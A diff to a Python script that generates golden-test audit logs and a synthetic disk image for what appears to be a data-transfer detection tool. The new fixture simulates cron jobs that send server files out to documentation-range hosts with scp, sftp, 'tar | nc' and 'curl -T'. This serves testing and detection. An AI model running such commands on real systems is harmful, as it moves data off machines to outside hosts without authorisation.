@@ -1,9 +1,11 @@
 #!/usr/bin/env python3
 """Writes the logs of the golden cases anew: make_logs.py [CASE...]. Then run scripts/golden --update
 and read the diff. Cases that are not here were written by hand."""
+import io
 import json
 import pathlib
 import sys
+import tarfile
 
 sys.dont_write_bytecode = True
 HERE = pathlib.Path(__file__).resolve().parent
@@ -382,6 +384,39 @@ def one_job():
     return story.text()
 
 
+def sizes():
+    """An image, packed so that its files keep their times: commands that name what it still has."""
+    story = Story()
+
+    def job(pid, command, exe, *argv, address, port=22):
+        story.cron_job(command, pid=pid, ses=pid).fork(pid + 2).exec(exe, *argv).connect(
+            5, address, port)
+
+    scp = "scp -q /srv/a /srv/late /srv/gone drop@203.0.113.10:up/"
+    job(700, scp, "/usr/bin/scp", *scp.split(), address="203.0.113.10")
+    job(710, "/opt/put.sh", "/usr/bin/sftp", "sftp", "-b", "/opt/batch", "drop@203.0.113.11",
+        address="203.0.113.11")
+    job(720, "tar cf - -C /srv tree | nc 203.0.113.12 9", "/usr/bin/nc", "nc", "203.0.113.12", "9",
+        address="203.0.113.12", port=9)
+    curl = "curl -T /srv/a ftp://203.0.113.13/up/"  # no data connection follows
+    job(730, curl, "/usr/bin/curl", *curl.split(), address="203.0.113.13", port=21)
+    gone = "scp /srv/gone drop@203.0.113.14:"
+    job(740, gone, "/usr/bin/scp", *gone.split(), address="203.0.113.14")
+    made = io.BytesIO()
+    with tarfile.open(fileobj=made, mode="w:xz", format=tarfile.USTAR_FORMAT) as tar:
+        for name, data, changed in (
+                ("etc/hostname", b"etl-01\n", 0), ("etc/passwd", b"root:x:0:0::/root:/bin/sh\n", 0),
+                ("opt/batch", b"lcd /srv\nput a up/\nput tree/1\nmput *.txt\n", 1796100000),
+                ("srv/a", bytes(5 << 20), 1796100000), ("srv/late", b"x" * 70, 1796200000),
+                ("srv/tree/1", bytes(150 << 20), 1796100000), ("srv/tree/2", b"x", 1796100000),
+                ("srv/n.txt", b"note", 1796100000),
+                ("var/log/audit/audit.log", story.text().encode(), 1796180000)):
+            member = tarfile.TarInfo(name)
+            member.size, member.mtime = len(data), changed
+            tar.addfile(member, io.BytesIO(data))
+    return {"image.tar.xz": made.getvalue()}
+
+
 LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titles": titles,
         "scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
         "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
@@ -397,6 +432,7 @@ LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titl
         "scan-forged-login": forged_login,
         "scan-asked-for": asked_for,
         "scan-bounds": many_descriptors,
+        "scan-image-sizes": sizes, "transfers-image-sizes": sizes,
         "scan-sudo": sudo_only,
         "transfers": several_transfers, "explain": one_job, "rules-mistakes": one_job}
 
@@ -404,4 +440,5 @@ for case in sys.argv[1:] or LOGS:
     made = LOGS[case]()
     for path, text in (made if isinstance(made, dict) else {"audit.log": made}).items():
         (HERE / case / path).parent.mkdir(parents=True, exist_ok=True)
-        (HERE / case / path).write_text(text, newline="")
+        data = text if isinstance(text, bytes) else text.encode()
+        (HERE / case / path).write_bytes(data)
